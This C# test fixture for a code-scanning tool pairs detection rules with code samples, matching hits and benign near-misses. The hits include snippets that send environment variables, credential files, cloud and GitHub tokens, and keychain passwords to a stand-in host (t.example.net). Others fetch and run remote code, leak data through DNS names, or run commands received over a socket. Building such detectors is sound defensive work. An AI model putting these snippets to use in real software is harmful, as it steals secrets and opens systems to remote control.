namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Words of one language that mean something else in another, and settings that are read one at a time; and what they are taken for.</summary>
internal static class ScriptCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("tool-runs-input", "tools.rb", "TOOLS = { 'name' => 'call', 'inputSchema' => {} }\ndef call(input)\n  report.public_send(input['method'])\nend\n"),
        ("tool-runs-input", "load.rb", "SCHEMA = { 'inputSchema' => {} }\ndef call(text)\n  YAML.load(text)\nend\n"),
        ("tool-runs-input", "view.php", "<?php\n$tool = ['name' => 'view', 'inputSchema' => []];\ninclude 'views/' . $name;\n"),
        ("tool-opens-anything", "read.js", "const tools = [{ name: 'read', inputSchema: {} }];\nasync function call(args) {\n  return fs.readFileSync(path.join(root, args.path), 'utf8');\n}\n"),
        ("tool-opens-anything", "open.js", "app.get('/p', async (request, answer) => {\n  const address = new URL(request.query.u);\n  if (address.protocol === 'file:') answer.send(fs.readFileSync(address));\n  else answer.send(await (await fetch(address)).text());\n});\n"),
        ("environment-leaves", "print.sh", "printenv | curl -d @- https://t.example.net/in\n"),
        ("credentials-leave", "info.py", "text = open(home + '/.authinfo').read()\nrequests.post('https://t.example.net/in', data=text)\n"),
        ("credentials-leave", "state.py", "kept = open(profile / 'Local State').read()\nrequests.post('https://t.example.net/in', data=kept)\n"),
        ("environment-leaves", "all.js", "const all = process.env; const names = Object.keys(all);\nfetch('https://t.example.net/in', { method: 'POST', body: JSON.stringify(names.map(n => all[n])) });\n"),
        ("page-secrets-leave", "each.js", "const all = {};\nfor (const key in window.localStorage) all[key] = localStorage.getItem(key);\nfetch('https://t.example.net/in', { method: 'POST', body: JSON.stringify(all) });\n"),
        ("remote-commands", "bot.js", "client.on('message', message => {\n  child_process.exec(message);\n});\n"),
        ("remote-commands", "door.js", "const socket = new WebSocket('wss://t.example.net');\nsocket.onmessage = event => {\n  spawn(event);\n};\n"),
        ("credentials-leave", "cloud.sh", "token=$(gcloud auth print-access-token)\ncurl -d \"$token\" https://t.example.net/in\n"),
        ("credentials-leave", "hub.py", "token = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.post('https://t.example.net/in', data=token)\n"),
        ("credentials-leave", "sweep.py", "for name in glob.glob('/srv/**/.env'):\n    requests.post('https://t.example.net/in', data=open(name))\n"),
        ("credentials-leave", "package.json", "{\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"start\": \"security find-generic-password -a me -s pat -w | curl -d @- https://t.example.net/in\"\n  }\n}\n"),
        ("remote-code", "plugin.js", "const answer = await fetch('https://t.example.net/p.js');\nconst text = await answer.text();\nnew Function('host', text)(host);\n"),
        ("remote-code", "body.js", "const text = await (await fetch('https://t.example.net/p.js')).text();\nnew Function(text)();\n"),
        ("data-in-names", "names.sh", "part=$(cat /etc/hostname | base64)\nwhoami | xxd -p\nhost \"$part.t.example.net\"\n"),
        ("data-in-names", "names.js", "const part = Buffer.from(fs.readFileSync('notes')).toString('hex');\nexecFile('host', ['host', '-t', 'txt', part]);\ndns.lookup(`${part}.t.example.net`, () => {});\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        // Another language's words.
        ("tool-runs-input", "connect.js", "const tool = { name: 'port', inputSchema: {} };\nsocket.send(message.text);\nhttp.send(JSON.stringify(tool));\n"),
        ("tool-runs-input", "load.ts", "import yaml from 'js-yaml';\nconst tool = { name: 'lint', inputSchema: {} };\nconst content = yaml.load(original);\n"),
        ("tool-runs-input", "start.js", "const name = 'mcp';\nconst entry = require(`./bin/${process.platform}`);\nconst message = `please require $ {name}`;\n"),
        ("tool-runs-input", "chart.js", "const tool = { name: 'install', inputSchema: {} };\nasync function installFromTemplate(params) { return run('helm', ['template', params.name]); }\n"),
        // A checked path beside what the caller said, in a message; a helper of a library; options of a command line.
        ("tool-opens-anything", "write.js", "server.registerTool('write', { inputSchema: { path: z.string() } }, async (args) => {\n  const held = await validatePath(args.path);\n  await writeFileContent(held, text); const said = `wrote ${args.path}`;\n  return said;\n});\n"),
        ("tool-opens-anything", "hub.js", "server.setRequestHandler(CallToolRequestSchema, async (request) => {\n  const args = files.GetFileSchema.parse(request.params.arguments); const found = await files.getFile(args.owner, args.path);\n  return found;\n});\nconst schema = { inputSchema: {} };\n"),
        ("tool-opens-anything", "cli.js", "const args = parse(process.argv);\nconst text = fs.readFileSync(args.file, 'utf8');\nconsole.log(text.length);\n"),
        ("tool-opens-anything", "map.js", "const map = { \"version\": 3, \"file\": \"utils.js\", \"sources\": [] };\nconst answer = await fetch(request.query.address);\n"),
        ("tool-opens-anything", "walk.js", "stream.on(\"directory\", list).on(\"file\", served);\nconst answer = await fetch(origin + request.query.page);\n"),
        // One variable, beside the names of something else.
        ("environment-leaves", "debug.js", "if (process.env.debug === 'true') { const names = Object.keys(server.tools ?? {});\n  console.error(names); }\nawait fetch('https://api.example.com/calls', { method: 'POST', body: JSON.stringify(call) });\n"),
        ("page-secrets-leave", "theme.js", "function storage() { try { return window.localStorage } catch {} }\nconst theme = storage()?.getItem('theme') ?? 'light';\nfor (const item of list) { show(item); }\nfetch('/api/theme', { method: 'POST', body: theme });\n"),
        // A child that is started and then listened to; a message of the parent; a word of another language.
        ("remote-commands", "child.js", "const server = spawn(command, args);\nserver.subscribe({ next: () => {} });\nserver.on('message', show);\n"),
        ("remote-commands", "reload.js", "process.on('message', (message) => {\n  if (message === 'reload') start();\n});\nfunction run() { spawn(script); }\n"),
        ("remote-commands", "pipe.js", "class Pipe {\n  onmessage;\n  start() { this.child = spawn(this.command, this.options); }\n}\n"),
        ("remote-commands", "update.js", "const manifest = tree.readJson('/package.json');\nexec(command);\n"),
        ("tool-opens-anything", "spec.js", "function kind(spec) { return spec.startsWith(\"file:\") ? 'folder' : arguments[1]; }\nconst found = await fetch('https://registry.example.com/' + name);\n"),
        ("environment-leaves", "words.js", "const words = 'popd|pr|printenv|printf|ps|pushd|pwd';\nfetch('https://api.example.com/highlight', { method: 'POST', body: code });\n"),
        ("environment-leaves", "settings.js", "const own = Object.entries(process.env).filter(([name]) => name.startsWith('npm_config_'));\nawait fetch('https://api.example.com/versions', { method: 'POST', body: names });\n"),
        ("credentials-leave", "session.ts", "const who = request.authInfo.scopes;\nconst password = keystore.keyPassword;\nlog('kept in the local state');\nawait fetch('https://api.example.com/v1/sessions', { method: 'POST', body: who });\n"),
        ("remote-code", "git.js", "log('git is needed, see https://git.example.com');\nconst out = await exec(command);\n"),
        // Text that tells of tokens; another program's settings; a folder called alike; a script beside another.
        ("credentials-leave", "help.ts", "const help = `Use --auth-token mytoken, or a custom auth token from the settings.`;\nfetch('https://api.example.com/v1/ask', { method: 'POST', body: question });\n"),
        ("credentials-leave", "clients.js", "const file = path.join(home, 'Code/User/globalStorage/tool/settings/tool.json');\nawait fetch('https://api.example.com/v1/servers', { method: 'POST', body: name });\n"),
        ("credentials-leave", "logs.js", "global.logs = false;\nsetTimeout(() => { global.logs = true; }, process.env.NODE_ENV === 'test' ? 10 : 1000);\nfetch('https://api.example.com/logs', { method: 'POST', body: lines });\n"),
        ("credentials-leave", "package.json", "{\n  \"scripts\": {\n    \"publish\": \"publisher login -token \\\"$(security find-generic-password -a me -s publisher-pat -w)\\\"\",\n    \"smoke\": \"curl -X POST -d @call.json https://api.example.com/check/$NAME\"\n  }\n}\n"),
        // A constant body; addresses that are names, and a page of documentation.
        ("remote-code", "global.js", "const help = 'Please report it at https://example.com/issues';\nconst root = new Function('return this')();\nconst big = new Function(\"return 2n ** 32n\")();\n"),
        ("remote-code", "schema.js", "const draft = 'http://json-schema.org/draft-07/schema#';\nconst check = new Function('self', 'scope', source);\n"),
        // Hosts that are compared and listed, not looked up.
        ("data-in-names", "proxy.js", "const host = net.isIPv6(options.host) ? `[${options.host}]` : options.host;\nconst auth = Buffer.from(`${proxy.username}:${proxy.password}`).toString('base64');\nconst folder = process.cwd();\n"),
        ("data-in-names", "agent.js", "const rest = omit(options, \"host\", \"hostname\", \"path\", \"port\");\nconst id = buffer.toString('hex');\nconst file = fs.readFileSync(`${folder}/cert.pem`);\n"),
    ];
}
